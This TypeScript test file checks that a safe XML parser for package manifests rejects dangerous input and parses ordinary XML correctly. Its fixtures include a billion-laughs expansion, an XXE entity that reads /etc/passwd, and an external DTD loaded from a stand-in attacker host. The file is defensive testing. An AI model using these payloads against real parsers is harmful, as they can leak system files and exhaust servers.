import { parseSafeXml } from './safe-xml';
import { attr, child, textOf } from './xml-element';

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<manifest><title>&lol3;</title></manifest>`;

const XXE = `<?xml version="1.0"?>
<!DOCTYPE manifest [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<manifest><title>&xxe;</title></manifest>`;

const EXTERNAL_DTD = `<?xml version="1.0"?>
<!DOCTYPE manifest SYSTEM "http://attacker.example/evil.dtd">
<manifest/>`;

describe('parseSafeXml', () => {
  it.each([
    ['billion laughs', BILLION_LAUGHS],
    ['external entity (XXE)', XXE],
    ['external DTD', EXTERNAL_DTD],
    ['parameter entity', '<!DOCTYPE m [<!ENTITY % p SYSTEM "http://x/">%p;]><m/>'],
  ])('refuses %s', (_label, xml) => {
    expect(() => parseSafeXml(xml, 'imsmanifest.xml')).toThrow(
      expect.objectContaining({ code: 'PACKAGE_XML_ENTITIES' }),
    );
  });

  it('accepts a DOCTYPE without entities', () => {
    expect(parseSafeXml('<!DOCTYPE manifest><manifest/>', 'x.xml').local).toBe('manifest');
  });

  it('fails malformed XML with PACKAGE_MANIFEST_INVALID', () => {
    expect(() => parseSafeXml('<a><b></a>', 'x.xml')).toThrow(
      expect.objectContaining({ code: 'PACKAGE_MANIFEST_INVALID' }),
    );
  });

  it('resolves namespaces, decodes predefined/numeric entities once, keeps CDATA literal, strips a BOM', () => {
    const xml =
      '\uFEFF<m xmlns="urn:a" xmlns:p="urn:p"><p:t k = "1&amp;lt;2">x &#x4e2d; &amp;amp;</p:t>' +
      '<u><![CDATA[ a=1&amp;b ]]></u></m>';
    const root = parseSafeXml(xml, 'x.xml');
    const t = child(root, 't');
    expect(root.ns).toBe('urn:a');
    expect(t?.ns).toBe('urn:p');
    expect(attr(t, 'k')).toBe('1&lt;2');
    expect(textOf(t)).toBe('x 中 &amp;');
    expect(textOf(child(root, 'u'))).toBe('a=1&amp;b');
  });
});
